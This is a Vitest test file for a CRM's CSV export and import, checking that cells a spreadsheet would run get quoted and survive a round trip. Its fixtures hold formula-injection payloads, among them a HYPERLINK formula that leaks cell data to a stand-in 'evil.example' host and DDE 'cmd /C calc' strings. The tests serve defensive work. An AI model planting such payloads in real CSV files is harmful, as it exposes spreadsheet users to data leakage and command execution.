import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { type App, createApp } from '../src/app.js';
import { testConfig } from '../src/config.js';
import { connectStore, type Store } from '../src/store/connect.js';
import { runCli, seedOutput } from './cli.js';
import { call, createTestDatabase, DIALECTS, type TestDatabase } from './harness.js';

/**
 * Issue 19, item 5: CSV formula injection. Every CSV the CLI writes (exports, the rejects file)
 * quotes the cells a spreadsheet would run, and an import of that file gives every value back.
 */

const rowsOf = (text: string): Record<string, string>[] => parse(text, { columns: true });
/** What a spreadsheet runs: a cell beginning with = + - @ tab or CR that is not a plain number. */
const runnable = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^[+-]?\d+(\.\d+)?$/.test(cell);

const HOSTILE = [
  {
    name: '=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
    custom: { note: "@SUM(1+1)*cmd|' /C calc'!A0" },
  },
  { name: '+1+cmd|" /C calc"!A0', custom: { note: '\t=1+1' } },
  { name: '-2+3', custom: { note: '\r=1+1' } },
  { name: '@SUM(A1:A9)', title: '=1+1', custom: { note: '-x' } },
  { name: "'=already quoted", custom: { note: "''+twice" } },
  { name: 'Phone Person', phone: '+1 555 0111', custom: { n: -5, s: '-5', plus: '+7' } },
];

describe.each(DIALECTS)('CSV formula injection on %s', (dialect) => {
  let database: TestDatabase;
  let dir: string;
  let store: Store;
  let app: App;
  let counter = 0;

  beforeAll(async () => {
    database = await createTestDatabase(dialect);
    dir = mkdtempSync(path.join(tmpdir(), 'agentcrm-csv-formula-'));
    expect((await runCli(['migrate'], database.env)).code).toBe(0);
    store = connectStore(testConfig(database.env));
    app = createApp({ config: testConfig(database.env), store, jobIntervalMs: 50 });
    app.services.jobs.start();
    // The first CLI run migrates a fresh database: slow on a loaded machine.
  }, 180_000);
  afterAll(async () => {
    await app.services.jobs.stop();
    await app.services.meter.stop();
    await store.close();
    rmSync(dir, { recursive: true, force: true });
    await database.cleanup();
  });

  const cli = (args: string[]) => runCli(args, database.env);
  async function workspace() {
    const tokenFile = path.join(dir, `ws${++counter}.token`);
    const run = await cli(['seed', '--contacts', '0', '--token-file', tokenFile]);
    expect(run.code, run.stderr).toBe(0);
    return {
      tokenFile,
      token: readFileSync(tokenFile, 'utf8').trim(),
      id: seedOutput(run.stdout).workspace_id!,
    };
  }
  const exported = async (tokenFile: string) => {
    const run = await cli(['export', 'contacts', '--token-file', tokenFile]);
    expect(run.code, run.stderr).toBe(0);
    return run.stdout;
  };
  const contacts = async (token: string) =>
    (await call(app, 'GET', '/contacts?limit=100&sort=name', undefined, { token, json: true })).json.data;

  it('quotes every cell a spreadsheet would run, and an import gives every value back', async () => {
    const source = await workspace();
    for (const body of HOSTILE) {
      const reply = await call(app, 'POST', '/contacts', body, { token: source.token, json: true });
      expect(reply.status, reply.text).toBe(201);
    }
    const text = await exported(source.tokenFile);
    const rows = rowsOf(text);
    expect(rows).toHaveLength(HOSTILE.length);
    for (const row of rows) {
      for (const [column, cell] of Object.entries(row))
        expect(runnable(cell), `${column}=${cell}`).toBe(false);
    }
    const byName = (name: string) => rows.find((row) => row.name === name)!;
    expect(byName(`'${HOSTILE[0]!.name}`)['custom.note']).toBe(`'${HOSTILE[0]!.custom.note}`);
    // Custom text with edge whitespace is written as JSON, which begins with a double quote.
    expect(byName(`'+1+cmd|" /C calc"!A0`)['custom.note']).toBe('"\\t=1+1"');
    expect(byName("'-2+3")['custom.note']).toBe('"\\r=1+1"');
    expect(byName("'@SUM(A1:A9)")).toMatchObject({ title: "'=1+1", 'custom.note': "'-x" });
    // Already quoted: one more quote, so the import can take exactly one away.
    expect(byName("''=already quoted")['custom.note']).toBe("'''+twice");
    // OWASP's rule alters the phone; a plain number cannot hold a formula and stays a number.
    expect(byName('Phone Person')).toMatchObject({
      phone: "'+1 555 0111",
      'custom.n': '-5',
      'custom.s': '"-5"',
      'custom.plus': '+7',
    });

    // The round trip: the exported file imported into a new workspace gives the same values.
    const target = await workspace();
    const file = path.join(dir, 'hostile.csv');
    writeFileSync(file, text);
    const run = await cli(['import', 'contacts', file, '--token-file', target.tokenFile]);
    expect(run.code, run.stderr).toBe(0);
    expect(run.stdout).toContain(`${HOSTILE.length} rows — ${HOSTILE.length} created, 0 updated`);
    const fields = (list: Record<string, unknown>[]) =>
      list.map(({ name, title, phone, custom }) => ({ name, title, phone, custom }));
    const copied = fields(await contacts(target.token));
    expect(copied).toEqual(fields(await contacts(source.token)));
    expect(copied.map((c) => c.name)).toContain(HOSTILE[0]!.name);
    expect(copied.find((c) => c.name === 'Phone Person')).toMatchObject({
      phone: '+1 555 0111',
      custom: { n: -5, s: '-5', plus: '+7' },
    });
    // And the copy exports byte for byte as the source did (ids were kept by the import).
    const strip = (csv: string) =>
      rowsOf(csv).map(({ created_at, updated_at, ...rest }) => ({
        ...rest,
        at: typeof created_at + typeof updated_at,
      }));
    expect(strip(await exported(target.tokenFile))).toEqual(strip(text));
  }, 180_000);

  it('quotes the cells of the rejects file, which holds what the input file said', async () => {
    const ws = await workspace();
    const input = path.join(dir, 'bad.csv');
    writeFileSync(
      input,
      'name,email,=Header\n"=HYPERLINK(""https://evil.example"",""x"")",not-an-email,@x\n' +
        "'-already,also-bad,+y\n" +
        '"\t=tab",bad-too,"\r=cr"\n',
    );
    const rejects = path.join(dir, 'rejects.csv');
    const run = await cli(['import', 'contacts', input, '--token-file', ws.tokenFile, '--rejects', rejects]);
    expect(run.code).toBe(3);
    const text = readFileSync(rejects, 'utf8');
    const [header, ...lines] = parse(text) as string[][];
    expect(header).toEqual(['import_row', 'import_error', 'name', 'email', "'=Header"]);
    expect(lines.map((line) => [line[2], line[4]])).toEqual([
      ['\'=HYPERLINK("https://evil.example","x")', "'@x"],
      ["'-already", "'+y"],
      ["'\t=tab", "'\r=cr"],
    ]);
    for (const line of lines) for (const cell of line) expect(runnable(cell), cell).toBe(false);
  }, 120_000);

  it('the API import (contacts.import_csv) takes the protective quote away too', async () => {
    const ws = await workspace();
    const csv = 'name,title\n"\'=HYPERLINK(""https://evil.example"",""x"")",\'\'+twice\n';
    const headers = { 'x-idempotency-key': 'idem_formula_import' };
    const queued = await call(
      app,
      'POST',
      '/contacts/import',
      { csv },
      { token: ws.token, json: true, headers },
    );
    expect(queued.status, queued.text).toBe(202);
    await vi.waitFor(
      async () => {
        const status = await call(app, 'GET', `/operations/${queued.json.data.id}`, undefined, {
          token: ws.token,
          json: true,
        });
        expect(status.json.data.status).toBe('succeeded');
      },
      { timeout: 30_000, interval: 50 },
    );
    const [contact] = await contacts(ws.token);
    expect(contact).toMatchObject({ name: '=HYPERLINK("https://evil.example","x")', title: "'+twice" });
  }, 120_000);
});
